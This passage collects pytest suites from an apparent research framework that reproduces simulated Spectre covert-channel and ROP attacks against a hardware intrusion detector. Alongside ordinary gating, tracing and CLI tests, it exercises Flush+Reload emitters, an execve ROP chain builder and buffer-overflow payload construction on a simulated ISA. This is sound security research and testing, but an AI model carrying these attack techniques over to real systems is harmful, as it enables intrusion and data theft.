        expectations = load_expectations(_expectations_file(tmp_path))
        with pytest.raises(ExpectationsError, match="no profile"):
            bands_for(expectations, "fig4", profile="nope")

    def test_unknown_experiment_raises(self, tmp_path):
        expectations = load_expectations(_expectations_file(tmp_path))
        with pytest.raises(ExpectationsError, match="no bands"):
            bands_for(expectations, "fig9", profile="quick")

    def _uarch_expectations(self, tmp_path):
        return load_expectations(_expectations_file(tmp_path, {
            "format": EXPECTATIONS_FORMAT,
            "profiles": {"quick": {"fig4": UARCH_BANDS}},
        }))

    def test_uarch_overlay_replaces_flat_bands_key_by_key(self, tmp_path):
        expectations = self._uarch_expectations(tmp_path)
        bands = bands_for(expectations, "fig4", profile="quick",
                          uarch="ooo")
        assert bands == {"accuracy": {"min": 0.9},
                         "evasion": {"max": 0.55}}

    def test_no_uarch_falls_back_to_flat(self, tmp_path):
        expectations = self._uarch_expectations(tmp_path)
        assert bands_for(expectations, "fig4", profile="quick") == BANDS
        assert bands_for(expectations, "fig4", profile="quick",
                         uarch=None) == BANDS

    def test_uarch_without_overlay_falls_back_to_flat(self, tmp_path):
        """A microarchitecture with no dedicated bands (or a legacy flat
        file) is gated against the flat section."""
        expectations = self._uarch_expectations(tmp_path)
        assert bands_for(expectations, "fig4", profile="quick",
                         uarch="inorder") == BANDS
        legacy = load_expectations(_expectations_file(tmp_path))
        assert bands_for(legacy, "fig4", profile="quick",
                         uarch="ooo") == BANDS

    def test_reserved_key_never_leaks_into_bands(self, tmp_path):
        expectations = self._uarch_expectations(tmp_path)
        for uarch in (None, "inorder", "ooo"):
            assert "uarch" not in bands_for(
                expectations, "fig4", profile="quick", uarch=uarch
            )


class TestCheckHeadlines:
    def test_in_band_passes(self):
        checks = check_headlines({"accuracy": 0.97, "evasion": 0.3},
                                 BANDS)
        assert gate_passed(checks)

    def test_below_min_fails(self):
        checks = check_headlines({"accuracy": 0.7, "evasion": 0.3},
                                 BANDS)
        assert not gate_passed(checks)
        failed = next(c for c in checks if not c["ok"])
        assert failed["headline"] == "accuracy"
        assert "min" in failed["reason"]

    def test_above_max_fails(self):
        checks = check_headlines({"accuracy": 0.97, "evasion": 0.9},
                                 BANDS)
        assert not gate_passed(checks)

    def test_missing_headline_is_a_regression(self):
        checks = check_headlines({"accuracy": 0.97}, BANDS)
        assert not gate_passed(checks)
        failed = next(c for c in checks if not c["ok"])
        assert failed["headline"] == "evasion"
        assert "missing" in failed["reason"]

    def test_tightened_band_flips_verdict(self):
        headlines = {"accuracy": 0.85, "evasion": 0.3}
        assert gate_passed(check_headlines(headlines, BANDS))
        tightened = {"accuracy": {"min": 0.9}, "evasion": {"max": 0.55}}
        assert not gate_passed(check_headlines(headlines, tightened))


class TestFormatGate:
    MANIFEST = {"experiment": "fig4", "run_id": "fig4-abc",
                "partial": False}

    def test_pass_verdict(self):
        checks = check_headlines({"accuracy": 0.97, "evasion": 0.3},
                                 BANDS)
        text = format_gate(self.MANIFEST, "quick", checks)
        assert "[PASS]" in text
        assert "fig4-abc" in text

    def test_regression_verdict_shows_reason(self):
        checks = check_headlines({"accuracy": 0.5, "evasion": 0.3},
                                 BANDS)
        text = format_gate(self.MANIFEST, "quick", checks)
        assert "[REGRESSION]" in text
        assert "FAIL" in text

    def test_partial_run_noted(self):
        manifest = dict(self.MANIFEST, partial=True)
        checks = check_headlines({"accuracy": 0.97, "evasion": 0.3},
                                 BANDS)
        assert "PARTIAL" in format_gate(manifest, "quick", checks)
