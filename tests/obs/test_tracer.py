"""Unit tests for the virtual-time tracer core."""

import pytest

from repro.obs.tracer import (
    CATEGORIES,
    NULL,
    TraceConfig,
    Tracer,
    activate,
    current_tracer,
    parse_filter,
)


class TestParseFilter:
    def test_none_and_empty_mean_all(self):
        assert parse_filter(None) is None
        assert parse_filter("") is None

    def test_splits_and_strips(self):
        assert parse_filter(" cpu, cache ") == ("cpu", "cache")

    def test_unknown_category_raises(self):
        with pytest.raises(ValueError, match="bogus"):
            parse_filter("cpu,bogus")


class TestTraceConfig:
    def test_default_wants_everything(self):
        config = TraceConfig()
        assert all(config.wants(cat) for cat in CATEGORIES)

    def test_subset(self):
        config = TraceConfig(categories=("cpu",))
        assert config.wants("cpu")
        assert not config.wants("cache")

    def test_empty_tuple_wants_nothing(self):
        config = TraceConfig(categories=())
        assert not any(config.wants(cat) for cat in CATEGORIES)


class TestTracer:
    def test_disabled_category_yields_no_channel(self):
        tracer = Tracer(TraceConfig(categories=("cpu",)))
        assert tracer.channel("cache") is None
        assert tracer.channel("cpu") is not None

    def test_channel_event_record_shape(self):
        tracer = Tracer()
        clk = tracer.register_clock(lambda: 42)
        channel = tracer.channel("cpu", clk)
        channel.event("cpu.mispredict", pc=4096)
        assert tracer.records == [{
            "ph": "i", "name": "cpu.mispredict", "cat": "cpu",
            "ts": 42, "clk": 1, "seq": 0, "args": {"pc": 4096},
        }]

    def test_complete_span_duration(self):
        ticks = iter((100, 150))
        tracer = Tracer()
        clk = tracer.register_clock(lambda: next(ticks))
        channel = tracer.channel("cache", clk)
        ts0 = channel.now()
        channel.complete("cache.fill", ts0)
        (record,) = tracer.records
        assert record["ph"] == "X"
        assert record["ts"] == 100
        assert record["dur"] == 50

    def test_sequence_clock_channel(self):
        tracer = Tracer()
        channel = tracer.channel("attack")
        channel.event("attack.step")
        channel.event("attack.step")
        first, second = tracer.records
        assert (first["clk"], second["clk"]) == (0, 0)
        assert second["seq"] == first["seq"] + 1

    def test_span_closes_on_exception(self):
        tracer = Tracer()
        with pytest.raises(RuntimeError):
            with tracer.span("exec.cell", "exec"):
                raise RuntimeError("boom")
        phases = [record["ph"] for record in tracer.records]
        assert phases == ["B", "E"]

    def test_max_records_cap_counts_drops(self):
        tracer = Tracer(TraceConfig(max_records=2))
        channel = tracer.channel("hid")
        for _ in range(5):
            channel.event("hid.window")
        assert len(tracer.records) == 2
        assert tracer.dropped == 3
        # The event counter survives the cap.
        assert tracer.metrics.counters["events.hid.window"] == 5

    def test_finalize_gauges(self):
        tracer = Tracer()
        tracer.register_clock(lambda: 1000)
        tracer.register_clock(lambda: 234)
        tracer.channel("cpu", 1).event("cpu.speculate")
        tracer.finalize()
        gauges = tracer.metrics.gauges
        assert gauges["cpu.cycles"] == 1234
        assert gauges["trace.records"] == 1
        assert gauges["trace.dropped"] == 0

    def test_unwanted_tracer_level_events_not_recorded(self):
        tracer = Tracer(TraceConfig(categories=("cpu",)))
        tracer.event("attack.samples", "attack")
        with tracer.span("exec.cell", "exec"):
            pass
        assert tracer.records == []


class TestAmbientStack:
    def test_default_is_null(self):
        assert current_tracer() is NULL
        assert not NULL.enabled

    def test_activate_and_restore(self):
        tracer = Tracer()
        with activate(tracer):
            assert current_tracer() is tracer
            inner = Tracer()
            with activate(inner):
                assert current_tracer() is inner
            assert current_tracer() is tracer
        assert current_tracer() is NULL

    def test_null_tracer_is_inert(self):
        assert NULL.channel("cpu") is None
        assert NULL.register_clock(lambda: 0) == 0
        with NULL.span("exec.cell", "exec"):
            pass
        NULL.event("x", "cpu")
        assert NULL.records == ()
