"""Golden-trace determinism: serial == pool == interrupted-then-resumed.

The acceptance property of the observability layer: because records are
stamped with virtual time only, the trace of a sweep is a pure function
of (experiment, knobs, root seed) — the backend, the parallel width,
and checkpoint replay must not leak into the bytes.
"""

import json

from repro.exec import (
    ProcessPoolBackend,
    SerialBackend,
    SweepPlan,
    execute_plan,
    open_store,
)
from repro.obs import TraceConfig, chrome_trace, trace_jsonl

from tests.obs import cells

CFG = TraceConfig()
SEED = 7


def _plan(keys=("attack", "cpu")):
    plan = SweepPlan("golden", SEED)
    if "attack" in keys:
        plan.add("attack", cells.spectre_cell, kwargs=dict(samples=2),
                 seed_kw="cell_seed")
    if "cpu" in keys:
        plan.add("cpu", cells.cpu_cell, kwargs=dict(iterations=15),
                 seed_kw="cell_seed")
    return plan


def _run(backend=None, store=None, keys=("attack", "cpu")):
    traces = {}
    metrics = {}
    results = execute_plan(_plan(keys), store=store, backend=backend,
                           trace=CFG, traces=traces, metrics=metrics)
    return results, traces, metrics


def _store(tmp_path):
    return open_store(str(tmp_path), "golden", {"v": 1}, trace=CFG)


class TestGoldenTrace:
    def test_trace_covers_every_layer(self):
        _, traces, metrics = _run(backend=SerialBackend())
        categories = {r["cat"] for r in traces["attack"]}
        assert categories == {"cpu", "cache", "kernel", "attack",
                              "hid", "exec"}
        names = {r["name"] for r in traces["attack"]}
        assert "attack.rop.step" in names
        assert "attack.inject.plan" in names
        assert "kernel.execve" in names
        assert "hid.profile" in names
        snapshot = metrics["attack"]
        assert snapshot["gauges"]["cpu.cycles"] > 0
        assert snapshot["counters"]["events.cache.miss"] > 0

    def test_serial_equals_pool(self):
        _, serial, serial_metrics = _run(backend=SerialBackend())
        _, pooled, pooled_metrics = _run(backend=ProcessPoolBackend(2))
        assert (trace_jsonl("golden", serial)
                == trace_jsonl("golden", pooled))
        assert serial_metrics == pooled_metrics

    def test_interrupted_then_resumed_equals_uninterrupted(self, tmp_path):
        # Reference: one uninterrupted run, no checkpoint.
        _, reference, reference_metrics = _run(backend=SerialBackend())

        # "Interrupted" run: only the first cell completes + persists...
        _run(backend=SerialBackend(), store=_store(tmp_path),
             keys=("attack",))
        # ...then the full sweep resumes: attack replays, cpu runs fresh.
        statuses = {}
        traces = {}
        metrics = {}
        execute_plan(_plan(), store=_store(tmp_path), statuses=statuses,
                     backend=SerialBackend(), trace=CFG, traces=traces,
                     metrics=metrics)
        assert statuses["attack"]["status"] == "cached"
        assert statuses["cpu"]["status"] == "ok"
        assert (trace_jsonl("golden", traces)
                == trace_jsonl("golden", reference))
        assert metrics == reference_metrics

    def test_chrome_export_deterministic_and_loadable(self):
        _, first, _ = _run(backend=SerialBackend())
        _, second, _ = _run(backend=SerialBackend())
        dump = json.dumps(chrome_trace(first), sort_keys=True)
        assert dump == json.dumps(chrome_trace(second), sort_keys=True)
        doc = json.loads(dump)
        assert doc["traceEvents"]

    def test_untraced_checkpoint_format_unchanged(self, tmp_path):
        """Tracing off keeps the legacy bare-value checkpoint format."""
        store = open_store(str(tmp_path), "golden", {"v": 1})
        execute_plan(_plan(keys=("cpu",)), store=store,
                     backend=SerialBackend())
        stored = store.get("cpu")
        assert set(stored) == {"cycles"}

    def test_results_unwrapped_from_traced_checkpoint(self, tmp_path):
        results, _, _ = _run(backend=SerialBackend(),
                             store=_store(tmp_path), keys=("cpu",))
        replayed, traces, _ = _run(backend=SerialBackend(),
                                   store=_store(tmp_path), keys=("cpu",))
        assert replayed["cpu"] == results["cpu"]
        assert set(replayed["cpu"]) == {"cycles"}
        assert traces["cpu"]
