"""The fleet journal and its renderings: schema, multi-writer appends,
virtual timestamps, totals, Prometheus exposition, the status table."""

import json

import pytest

from repro.obs.fleet import (
    JOURNAL_FORMAT,
    FleetJournal,
    JournalSchemaError,
    format_fleet_table,
    journal_totals,
    read_journal,
    render_prometheus,
    validate_event,
)


class _FakeClock:
    def __init__(self, now=100.0):
        self.now = now

    def __call__(self):
        return self.now

    def advance(self, seconds):
        self.now += seconds


SNAPSHOT = {
    "server": {"host": "127.0.0.1", "port": 9000, "lease_timeout": 5.0,
               "uptime_s": 12.5, "workers": 2, "waves": 1,
               "queued_cells": 3, "outstanding_leases": 2},
    "stats": {"waves": 4, "batches": 9, "results": 40, "requeues": 2,
              "expiries": 1, "hedges": 1, "degraded": 0, "bad_frames": 0},
    "workers": {
        "w0": {"cells": 20, "batches": 5, "cells_per_s": 8.25,
               "heartbeat_age_s": 0.4, "idle": False},
        "w1": {"cells": 20, "batches": 4, "cells_per_s": None,
               "heartbeat_age_s": None, "idle": True},
    },
    "waves": {
        "fig5-1": {"total": 12, "done": 9, "queued_batches": 1,
                   "queued_cells": 3, "outstanding": 2,
                   "oldest_heartbeat_age_s": 0.7,
                   "counters": {"grants": 9, "requeues": 2,
                                "degraded": 0, "hedges": 1}},
    },
    "cache": {"hits": 5, "misses": 7, "puts": 7, "poisoned": 1},
}


class TestJournal:
    def test_header_then_events_round_trip(self, tmp_path):
        clock = _FakeClock()
        path = tmp_path / "journal.jsonl"
        with FleetJournal(path, clock=clock) as journal:
            journal.append("server.listening", port=9000)
            clock.advance(1.5)
            journal.append("worker.join", worker="w0")
        header, events = read_journal(path)
        assert header["format"] == JOURNAL_FORMAT
        assert header["source"] == "server"
        assert [event["kind"] for event in events] == \
            ["server.listening", "worker.join"]
        assert [event["seq"] for event in events] == [0, 1]
        assert events[0]["vt"] == 0.0
        assert events[1]["vt"] == 1.5
        assert events[1]["worker"] == "w0"

    def test_second_writer_appends_without_a_second_header(self, tmp_path):
        path = tmp_path / "journal.jsonl"
        with FleetJournal(path, source="server") as server:
            server.append("server.listening")
        with FleetJournal(path, source="chaos") as chaos:
            chaos.append("chaos.kill", worker="w0")
        header, events = read_journal(path)
        assert header["source"] == "server"
        assert [event["source"] for event in events] == ["server", "chaos"]
        # Each writer numbers its own records from zero.
        assert [event["seq"] for event in events] == [0, 0]

    def test_lines_are_single_json_objects(self, tmp_path):
        path = tmp_path / "journal.jsonl"
        with FleetJournal(path) as journal:
            journal.append("wave.submit", wave="fig5-1", cells=4)
        lines = path.read_text().splitlines()
        assert len(lines) == 2
        for line in lines:
            json.loads(line)

    def test_totals_count_requeued_cells_and_expiries(self, tmp_path):
        path = tmp_path / "journal.jsonl"
        with FleetJournal(path) as journal:
            journal.append("lease.expired", leases=["w/1"],
                           reason="lease expired on stall")
            journal.append("lease.requeue", keys=["cell/0", "cell/1"])
            journal.append("lease.requeue", keys=["cell/2"])
        _, events = read_journal(path)
        totals = journal_totals(events)
        assert totals["counts"]["lease.requeue"] == 2
        assert totals["requeued_cells"] == 3
        assert totals["expiries"] == 1


class TestSchema:
    def test_missing_field_rejected(self):
        with pytest.raises(JournalSchemaError, match="seq"):
            validate_event({"kind": "x", "vt": 0.0, "source": "server"})

    def test_bool_vt_rejected(self):
        with pytest.raises(JournalSchemaError, match="vt"):
            validate_event({"kind": "x", "vt": True, "seq": 0,
                            "source": "server"})

    def test_negative_vt_rejected(self):
        with pytest.raises(JournalSchemaError, match="negative"):
            validate_event({"kind": "x", "vt": -1.0, "seq": 0,
                            "source": "server"})

    def test_empty_kind_rejected(self):
        with pytest.raises(JournalSchemaError, match="empty"):
            validate_event({"kind": "", "vt": 0.0, "seq": 0,
                            "source": "server"})

    def test_unknown_format_rejected(self, tmp_path):
        path = tmp_path / "bad.jsonl"
        path.write_text('{"format": "wrong/0"}\n')
        with pytest.raises(JournalSchemaError, match="unknown format"):
            read_journal(path)

    def test_empty_file_rejected(self, tmp_path):
        path = tmp_path / "empty.jsonl"
        path.write_text("")
        with pytest.raises(JournalSchemaError, match="empty journal"):
            read_journal(path)

    def test_bad_line_is_located(self, tmp_path):
        path = tmp_path / "journal.jsonl"
        with FleetJournal(path) as journal:
            journal.append("ok")
        with open(path, "a") as handle:
            handle.write('{"kind": "broken"}\n')
        with pytest.raises(JournalSchemaError, match="line 3"):
            read_journal(path)


class TestPrometheus:
    def test_families_annotated_and_labelled(self):
        text = render_prometheus(SNAPSHOT)
        assert text.endswith("\n")
        assert "# TYPE repro_dist_requeues_total counter" in text
        assert "repro_dist_requeues_total 2" in text
        assert "repro_dist_expiries_total 1" in text
        assert "# TYPE repro_dist_workers gauge" in text
        assert "repro_dist_workers 2" in text
        assert 'repro_dist_worker_cells_total{worker="w0"} 20' in text
        assert 'repro_dist_worker_cells_per_second{worker="w0"} 8.25' \
            in text
        assert 'repro_dist_wave_done_cells{wave="fig5-1"} 9' in text
        assert 'repro_dist_cell_cache_events_total{event="poisoned"} 1' \
            in text

    def test_none_samples_are_skipped(self):
        text = render_prometheus(SNAPSHOT)
        # w1 has no throughput or heartbeat age yet: no sample, but w0's
        # is still there so the family survives.
        assert 'worker_cells_per_second{worker="w1"}' not in text
        assert 'worker_heartbeat_age_seconds{worker="w1"}' not in text
        assert 'worker_heartbeat_age_seconds{worker="w0"} 0.4' in text

    def test_empty_snapshot_renders(self):
        text = render_prometheus({})
        assert "repro_dist" not in text or text == "\n"


class TestStatusTable:
    def test_renders_topology_and_counters(self):
        text = format_fleet_table(SNAPSHOT)
        assert "repro-dist 127.0.0.1:9000" in text
        assert "2 worker(s), 1 live wave(s)" in text
        assert "2 requeues, 1 expiries" in text
        assert "cell cache: 5 hit(s), 7 miss(es), 1 poisoned" in text
        assert "w0" in text and "busy" in text
        assert "w1" in text and "idle" in text
        assert "9/12" in text            # wave progress column

    def test_empty_snapshot_renders(self):
        text = format_fleet_table({})
        assert "repro-dist" in text
