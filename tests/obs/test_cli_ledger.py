"""CLI coverage: the ledger workflow (record -> compare/gate/report).

The experiment runs here are quick fig4 invocations (seconds each);
compare/gate/report then operate on the recorded manifests only, so
the workflow tests stay fast.
"""

import json

import pytest

from repro.cli import EXIT_FATAL, EXIT_GATE, EXIT_OK, main
from repro.obs import load_manifest, manifest_bytes, read_index
from repro.obs.gate import EXPECTATIONS_FORMAT

ARGS = ["fig4", "--quick", "--seed", "3"]


@pytest.fixture(scope="module")
def ledger(tmp_path_factory):
    """One recorded quick-fig4 run (traced), shared by the workflow
    tests below."""
    root = tmp_path_factory.mktemp("ledger")
    assert main(ARGS + ["--trace", "--ledger", str(root)]) == EXIT_OK
    entries = read_index(root)
    assert len(entries) == 1
    return root, entries[0]["run_id"]


def _expectations(tmp_path, bands):
    path = tmp_path / "expectations.json"
    path.write_text(json.dumps({
        "format": EXPECTATIONS_FORMAT,
        "profiles": {"quick": {"fig4": bands}},
    }))
    return str(path)


class TestRecording:
    def test_manifest_and_traces_in_run_dir(self, ledger):
        root, run_id = ledger
        run_dir = root / run_id
        assert (run_dir / "manifest.json").is_file()
        assert (run_dir / "fig4.trace.jsonl").is_file()
        assert (run_dir / "fig4.chrome.json").is_file()
        manifest = load_manifest(run_id, ledger_dir=root)
        assert manifest["experiment"] == "fig4"
        assert manifest["headlines"]["hid_accuracy_size4"] > 0.8
        assert manifest["traces"]["jsonl"]["path"] == "fig4.trace.jsonl"
        assert manifest["timing"]["wall_s"] > 0

    def test_no_ledger_opt_out(self, tmp_path, capsys):
        assert main(ARGS + ["--no-ledger"]) == EXIT_OK
        assert "ledger:" not in capsys.readouterr().err

    def test_interrupted_resume_matches_uninterrupted(self, tmp_path,
                                                      capsys):
        """Acceptance: an interrupted + resumed run's manifest is
        byte-identical (minus wall clock) to an uninterrupted one."""
        ck = tmp_path / "ck"
        uninterrupted = tmp_path / "a"
        resumed = tmp_path / "b"
        # Uninterrupted reference run.
        assert main(ARGS + ["--trace", "--ledger",
                            str(uninterrupted)]) == EXIT_OK
        # "Interrupted" run: the checkpoint holds completed cells...
        assert main(ARGS + ["--resume", str(ck), "--no-ledger"]) == EXIT_OK
        # ...and the resumed run replays them all from cache.
        assert main(ARGS + ["--trace", "--resume", str(ck),
                            "--ledger", str(resumed)]) == EXIT_OK
        run_id = read_index(uninterrupted)[0]["run_id"]
        a = load_manifest(run_id, ledger_dir=uninterrupted)
        b = load_manifest(run_id, ledger_dir=resumed)
        assert manifest_bytes(a) == manifest_bytes(b)


class TestCompareCommand:
    def test_same_seed_zero_diffs(self, ledger, tmp_path, capsys):
        root, run_id = ledger
        other = tmp_path / "other"
        assert main(ARGS + ["--trace", "--ledger", str(other)]) == EXIT_OK
        capsys.readouterr()
        assert main(["compare", str(root / run_id),
                     str(other / run_id)]) == EXIT_OK
        out = capsys.readouterr().out
        assert "0 differing field(s)" in out
        assert "identical" in out

    def test_different_seed_names_divergent_subsystem(self, ledger,
                                                      tmp_path, capsys):
        root, run_id = ledger
        other = tmp_path / "other"
        assert main(["fig4", "--quick", "--seed", "4", "--trace",
                     "--ledger", str(other)]) == EXIT_OK
        other_id = read_index(other)[0]["run_id"]
        capsys.readouterr()
        code = main(["compare", str(root / run_id),
                     str(other / other_id)])
        out = capsys.readouterr().out
        assert code == EXIT_GATE
        assert "config" in out
        assert "seed" in out
        # Trace localisation pins the first divergent span's subsystem.
        assert "first diverges in subsystem [" in out

    def test_missing_run_is_fatal(self, tmp_path, capsys):
        assert main(["compare", "nope-1", "nope-2",
                     "--ledger", str(tmp_path)]) == EXIT_FATAL
        assert "no run manifest" in capsys.readouterr().err


class TestGateCommand:
    def test_current_headlines_pass(self, ledger, tmp_path, capsys):
        root, run_id = ledger
        expectations = _expectations(
            tmp_path, {"hid_accuracy_size4": {"min": 0.8}}
        )
        assert main(["gate", run_id, "--ledger", str(root),
                     "--expectations", expectations]) == EXIT_OK
        assert "[PASS]" in capsys.readouterr().out

    def test_committed_expectations_pass(self, ledger, capsys):
        root, run_id = ledger
        assert main(["gate", run_id, "--ledger", str(root)]) == EXIT_OK
        assert "[PASS]" in capsys.readouterr().out

    def test_tightened_band_regresses(self, ledger, tmp_path, capsys):
        root, run_id = ledger
        expectations = _expectations(
            tmp_path, {"hid_accuracy_size4": {"min": 0.999}}
        )
        assert main(["gate", run_id, "--ledger", str(root),
                     "--expectations", expectations]) == EXIT_GATE
        assert "[REGRESSION]" in capsys.readouterr().out

    def test_uncovered_profile_is_fatal_not_pass(self, ledger, tmp_path,
                                                 capsys):
        root, run_id = ledger
        expectations = _expectations(
            tmp_path, {"hid_accuracy_size4": {"min": 0.8}}
        )
        assert main(["gate", run_id, "--ledger", str(root),
                     "--expectations", expectations,
                     "--profile", "nope"]) == EXIT_FATAL
        assert "no profile" in capsys.readouterr().err


class TestReportCommand:
    def test_writes_dashboard_next_to_manifest(self, ledger, capsys):
        root, run_id = ledger
        assert main(["report", run_id, "--ledger", str(root)]) == EXIT_OK
        report = root / run_id / "report.html"
        assert report.is_file()
        html_text = report.read_text()
        assert "<script" not in html_text
        assert "hid_accuracy_size4" in html_text
        assert "<svg" in html_text

    def test_explicit_output_and_gate_colouring(self, ledger, tmp_path,
                                                capsys):
        root, run_id = ledger
        out = tmp_path / "dash.html"
        expectations = _expectations(
            tmp_path, {"hid_accuracy_size4": {"min": 0.999}}
        )
        assert main(["report", run_id, "--ledger", str(root),
                     "--html", str(out),
                     "--expectations", expectations]) == EXIT_OK
        assert 'class="tile fail"' in out.read_text()
