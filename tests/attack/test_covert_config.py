"""Covert-channel emitter and SpectreConfig unit tests."""

import pytest

from repro.attack.config import SpectreConfig
from repro.attack.covert import (
    EVICT_BUFFER_BYTES,
    emit_data,
    emit_flush_probe,
    emit_main_skeleton,
    emit_perturb_calls,
    emit_reload_and_record,
)
from repro.attack.perturb import PerturbParams


class TestConfig:
    def test_defaults(self):
        config = SpectreConfig()
        assert config.probe_entries == 256
        assert config.flush_method == "clflush"
        assert config.probe_bytes == 256 * 64 + 64

    def test_probe_bytes_tracks_stride(self):
        assert SpectreConfig(stride=128).probe_bytes == 256 * 128 + 64

    def test_invalid_flush_method(self):
        with pytest.raises(ValueError):
            SpectreConfig(flush_method="hammer")

    def test_frozen(self):
        config = SpectreConfig()
        with pytest.raises(Exception):
            config.stride = 32


class TestEmitters:
    CONFIG = SpectreConfig(secret_length=4)

    def test_data_block_aligned_probe(self):
        text = emit_data(self.CONFIG, "xx")
        assert ".align 6" in text
        assert "xx_probe:" in text
        assert "xx_leaked:" in text

    def test_clflush_mode_flushes(self):
        text = emit_flush_probe(self.CONFIG, "xx")
        assert "clflush" in text
        assert "mfence" in text

    def test_evict_mode_has_no_clflush(self):
        config = SpectreConfig(secret_length=4, flush_method="evict")
        flush = emit_flush_probe(config, "xx")
        assert "clflush 0(" not in flush  # no flush *instruction* emitted
        assert "xx_evict_buf" in flush
        data = emit_data(config, "xx")
        assert str(EVICT_BUFFER_BYTES) in data

    def test_clflush_mode_has_no_evict_buffer(self):
        data = emit_data(self.CONFIG, "xx")
        assert "evict_buf" not in data

    def test_reload_uses_rdcycle_timing(self):
        text = emit_reload_and_record(self.CONFIG, "xx")
        assert text.count("rdcycle") == 2
        assert "xx_leaked" in text

    def test_perturb_calls_absent_without_params(self):
        assert emit_perturb_calls(self.CONFIG, "xx") == ""

    def test_perturb_calls_count(self):
        config = SpectreConfig(
            secret_length=4,
            perturb=PerturbParams(calls_per_byte=3),
        )
        text = emit_perturb_calls(config, "xx")
        assert text.count("call xx_pt_perturb") == 3

    def test_skeleton_structure(self):
        text = emit_main_skeleton(
            self.CONFIG, "xx",
            train_block="; train here",
            strike_block="; strike here",
            extra_text="; helpers",
        )
        assert text.index("; train here") < text.index("xx_flush")
        assert text.index("xx_flush") < text.index("; strike here")
        assert "libc_write" in text  # exfiltration
        assert "libc_exit" in text

    def test_skeleton_prefix_isolation(self):
        a = emit_main_skeleton(self.CONFIG, "aa", "", "")
        assert "aa_byte_loop" in a
        assert "bb_" not in a
