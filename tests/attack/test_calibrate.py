"""Covert-channel calibration tests."""

import pytest

from repro.attack.calibrate import CalibrationResult, calibrate
from repro.cache.hierarchy import CacheConfig
from repro.cpu import CpuConfig
from repro.errors import PrivilegeFault
from repro.kernel import System


class TestCalibrate:
    def test_default_machine_is_separable(self):
        result = calibrate(seed=1)
        assert result.separable, result.describe()
        assert result.margin > 50

    def test_threshold_between_populations(self):
        result = calibrate(seed=1)
        assert result.max_hit < result.threshold < result.min_miss

    def test_describe(self):
        result = calibrate(seed=1)
        text = result.describe()
        assert "threshold=" in text and "margin=" in text

    def test_tracks_memory_latency(self):
        slow = System(seed=1, cache_config=CacheConfig(memory_latency=400))
        fast = System(seed=1, cache_config=CacheConfig(memory_latency=60))
        assert calibrate(slow).min_miss > calibrate(fast).min_miss

    def test_small_latency_gap_shrinks_margin(self):
        tight = System(
            seed=1,
            cache_config=CacheConfig(memory_latency=8, l2_latency=4),
        )
        result = calibrate(tight)
        assert result.margin < calibrate(seed=1).margin

    def test_clflush_ban_propagates(self):
        system = System(seed=1,
                        cpu_config=CpuConfig(clflush_privileged=True))
        with pytest.raises(PrivilegeFault):
            calibrate(system)


class TestResultMath:
    def test_margin_and_separability(self):
        result = CalibrationResult(
            hit_latencies=(1, 2, 3), miss_latencies=(100, 110)
        )
        assert result.margin == 97
        assert result.threshold == (3 + 100) // 2
        assert result.separable

    def test_overlapping_populations(self):
        result = CalibrationResult(
            hit_latencies=(1, 90), miss_latencies=(80, 100)
        )
        assert not result.separable
