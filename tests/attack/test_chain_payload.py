"""ROP chain builder and Listing-1 payload tests."""

import struct

import pytest

from repro.attack.chain import ChainBuilder, build_execve_chain
from repro.attack.gadgets import GadgetScanner
from repro.attack.payload import (
    build_payload,
    payload_total_length,
    plan_string_addresses,
)
from repro.errors import AttackError
from repro.isa.encoding import encode_program
from repro.isa.instruction import Instruction
from repro.isa.opcodes import Opcode
from repro.isa.registers import A0, A1, T0


def _scanner_with(instructions, base=0x1000):
    return GadgetScanner(encode_program(instructions), base)


class TestChainBuilder:
    def test_multi_pop_preferred(self):
        scanner = _scanner_with([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.POP, rd=A1),
            Instruction(Opcode.RET),
        ])
        chain = (ChainBuilder(scanner)
                 .set_registers([(A0, 0x111), (A1, 0x222)])
                 .call(0x9999)
                 .build())
        assert chain.words == (0x1000, 0x111, 0x222, 0x9999)

    def test_fallback_to_single_pops(self):
        scanner = _scanner_with([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.RET),
            Instruction(Opcode.POP, rd=A1),
            Instruction(Opcode.RET),
        ])
        chain = (ChainBuilder(scanner)
                 .set_registers([(A0, 0x111), (A1, 0x222)])
                 .call(0x9999)
                 .build())
        assert chain.words == (0x1000, 0x111, 0x1010, 0x222, 0x9999)

    def test_suffix_gadget_preferred_over_padding(self):
        # With aligned decode every suffix is itself a gadget, so the
        # builder picks the direct 'pop a0; ret' at +8 with no junk.
        scanner = _scanner_with([
            Instruction(Opcode.POP, rd=T0),
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.RET),
        ])
        chain = ChainBuilder(scanner).set_register(A0, 0x42).build()
        assert chain.words == (0x1008, 0x42)

    def test_describe_lists_gadgets(self):
        scanner = _scanner_with([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.RET),
        ])
        chain = ChainBuilder(scanner).set_register(A0, 1).build()
        assert "pop a0; ret" in chain.describe()

    def test_execve_chain_shape(self):
        scanner = _scanner_with([
            Instruction(Opcode.POP, rd=A0),
            Instruction(Opcode.POP, rd=A1),
            Instruction(Opcode.RET),
        ])
        chain = build_execve_chain(scanner, 0xE000, 0x7000, 0)
        assert chain.words == (0x1000, 0x7000, 0, 0xE000)


class TestPayload:
    def test_listing1_structure(self):
        payload = build_payload([0xAAAA, 0xBBBB], buffer_address=0x7FF00000,
                                fill_bytes=104)
        blob = payload.blob
        assert blob[:100] == b"D" * 100
        assert blob[100:104] == b"FFFF"
        assert struct.unpack_from("<I", blob, 104)[0] == 0xAAAA
        assert struct.unpack_from("<I", blob, 108)[0] == 0xBBBB

    def test_strings_appended_with_addresses(self):
        payload = build_payload(
            [0x1], buffer_address=0x1000, fill_bytes=104,
            strings={"path": b"/bin/x"},
        )
        address = payload.string_addresses["path"]
        assert address == 0x1000 + 104 + 4
        offset = address - 0x1000
        assert payload.blob[offset:offset + 7] == b"/bin/x\x00"

    def test_plan_matches_build(self):
        strings = {"a": b"xx", "b": b"yyyy"}
        planned = plan_string_addresses(0x5000, 104, 3, strings)
        payload = build_payload([1, 2, 3], 0x5000, 104, strings)
        assert payload.string_addresses == planned

    def test_total_length(self):
        strings = {"p": b"abc"}
        total = payload_total_length(104, 4, strings)
        payload = build_payload([1, 2, 3, 4], 0, 104, strings)
        assert payload.length == total

    def test_canary_written_into_fill(self):
        payload = build_payload([1], 0, fill_bytes=108,
                                canary=0xCAFEBABE, canary_offset=100)
        assert struct.unpack_from("<I", payload.blob, 100)[0] == 0xCAFEBABE

    def test_canary_offset_validated(self):
        with pytest.raises(AttackError):
